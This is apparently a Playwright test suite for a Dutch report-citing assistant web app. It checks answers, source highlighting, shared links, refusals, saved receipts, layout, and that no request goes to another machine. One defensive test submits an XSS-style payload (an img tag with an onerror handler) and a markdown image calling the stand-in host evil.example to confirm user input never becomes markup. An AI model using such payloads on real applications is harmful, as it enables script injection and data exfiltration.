"""The real app in real Chromium: ask, read the answer, open its source in the report."""

import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, sync_playwright

from assistant.engine import Assistant
from assistant.receipt import read_receipt, verify
from tests.conftest import CHROMIUM, CORPUS

pytestmark = pytest.mark.browser
QUIET = (
    "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
    "--disable-component-update --disable-sync"
).split()
QUESTION = "wat doe ik als de hulpvraag ontbreekt"


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    assert CHROMIUM, "there is no chromium: apt-get install chromium"
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=QUIET)
        yield chromium
        chromium.close()


@pytest.fixture
def page(browser: Browser, chat: str) -> Iterator[Page]:
    """A new tab; afterwards no request of it may have gone to another machine."""
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(chat)
    page.wait_for_selector("h1")
    yield page
    page.close()
    local = (chat, chat.replace("http", "ws"), "data:", "blob:")
    assert [url for url in asked if not url.startswith(local)] == []


def ask(page: Page, question: str) -> None:
    page.get_by_test_id("stChatInputTextArea").fill(question)
    page.keyboard.press("Enter")
    page.wait_for_selector(".vb-antwoord")


def picture(page: Page, name: str) -> None:
    """Keep a screenshot where SCREENSHOTS names a folder (`make screenshots`: docs/images)."""
    if folder := os.environ.get("SCREENSHOTS"):
        page.screenshot(path=Path(folder) / f"{name}.png")


def test_question_answer_second_source_marked_passage(page: Page, assistant: Assistant) -> None:
    expected = assistant.ask(QUESTION)
    ask(page, QUESTION)
    page.wait_for_selector(f"#bron-0-{len(expected.citations)}")
    assert expected.citations[0].quote.text in page.inner_text(".vb-antwoord")
    assert page.locator(".vb-bron").count() == len(expected.citations)
    second = expected.citations[1].quote
    assert " ".join(page.locator("#bron-0-2 mark").all_inner_texts()) == second.text
    page.get_by_text("Lees bron 2 in het rapport").click()
    page.wait_for_selector(".gevonden")
    page.wait_for_timeout(1200)
    assert page.locator(".gevonden").count() == 1
    marked = page.locator(".vb-rapport mark").all_inner_texts()
    body = [second.passage.quote(s) for s in second.passage.sentences if s.block != "heading"]
    assert " ".join(" ".join(marked).split()) == " ".join(" ".join(body).split())
    assert page.locator(".gevonden mark").count() == page.locator(".vb-rapport mark").count()
    box = page.locator(".gevonden").bounding_box()
    assert box and 0 <= box["y"] < 900  # in view
    assert f"passage={second.passage.id.replace(':', '%3A')}" in page.url
    picture(page, "passage")


def test_a_shared_link_opens_the_passage(page: Page, chat: str, assistant: Assistant) -> None:
    passage = assistant.ask(QUESTION).citations[0].quote.passage
    page.goto(f"{chat}/?report={passage.report}&passage={passage.id}")
    page.wait_for_selector(".gevonden")
    assert page.inner_text(".gevonden mark").startswith(passage.quote(passage.sentences[1])[:40])


def test_a_link_to_nothing_gets_a_sentence(page: Page, chat: str) -> None:
    page.goto(f"{chat}/bronnen?report=tsd-2031&passage=x")
    page.get_by_text("Het rapport 'tsd-2031' is hier niet.").wait_for()
    page.goto(f"{chat}/bronnen?report=tsd-2020-someren&passage=tsd-2020-someren:1-2")
    page.get_by_text("De passage uit deze link staat niet meer in het rapport.").wait_for()


def test_welcome_has_six_examples_and_one_answers(page: Page) -> None:
    page.wait_for_selector('[class*="st-key-voorbeeld-5"] button')
    assert page.locator('[class*="st-key-voorbeeld-"] button').count() == 6
    page.get_by_text("Mag ik informatie delen zonder toestemming?").click()
    page.wait_for_selector(".vb-antwoord")
    page.wait_for_selector('[class*="st-key-voorbeeld-"]', state="detached")


def test_language_and_names_are_dutch(page: Page) -> None:
    page.wait_for_function("document.documentElement.lang === 'nl'")
    page.get_by_label("Verstuur de vraag").wait_for()
    assert "Deploy" not in page.inner_text("body")


def test_what_is_asked_never_becomes_markup(page: Page) -> None:
    ask(
        page,
        '<img src=x onerror="document.title=1"> regie ![](http://evil.example/?d=1) **vet** :red[x] [a](http://b.nl)',
    )
    assert page.locator(".vb-vraag img, .vb-antwoord img, .vb-vraag a").count() == 0
    assert "![](http://evil.example/?d=1) **vet** :red[x]" in page.inner_text(".vb-vraag")


def test_a_second_question_leans_on_the_first(page: Page) -> None:
    ask(page, "hoe is de regie geregeld in Nijmegen?")
    ask(page, "en in Someren?")
    page.get_by_text("Gezocht op: hoe is de regie geregeld in Someren?").wait_for()
    assert page.locator(".vb-vraag").count() == 2
    page.get_by_text("Zoek zonder het gesprek ervoor").click()
    page.get_by_text("Gezocht op: hoe is de regie geregeld in Someren?").wait_for(state="detached")
    assert page.locator(".vb-vraag").all_inner_texts()[1] == "en in Someren?"


def test_a_refusal_names_what_is_missing_and_marks_the_nearest(page: Page) -> None:
    ask(page, "hoeveel inwoners heeft Someren")
    assert "Dat staat niet in deze rapporten." in page.inner_text(".vb-antwoord")
    page.get_by_role("heading", name="Dichtst in de buurt, geen antwoord op uw vraag").wait_for()


def test_a_receipt_is_saved_and_holds(page: Page, tmp_path: Path) -> None:
    ask(page, QUESTION)
    with page.expect_download() as waiting:
        page.get_by_text("Bewaar een bewijs van dit antwoord").first.click()
    waiting.value.save_as(tmp_path / "bewijs.json")
    assert verify(read_receipt(tmp_path / "bewijs.json"), CORPUS) == []


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (1280, "dark"), (375, "light"), (375, "dark")])
def test_no_sideways_scrolling(browser: Browser, chat: str, width: int, scheme: str) -> None:
    page = browser.new_page(viewport={"width": width, "height": 900}, color_scheme=scheme)  # type: ignore[arg-type]
    page.goto(chat)
    page.wait_for_selector("h1")
    ask(page, QUESTION)
    page.wait_for_timeout(1500)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    picture(page, f"chat-{width}-{scheme}")
    page.close()


def test_nothing_tried_to_connect_out(attempts: Path, page: Page) -> None:
    ask(page, QUESTION)
    assert attempts.read_text() == ""
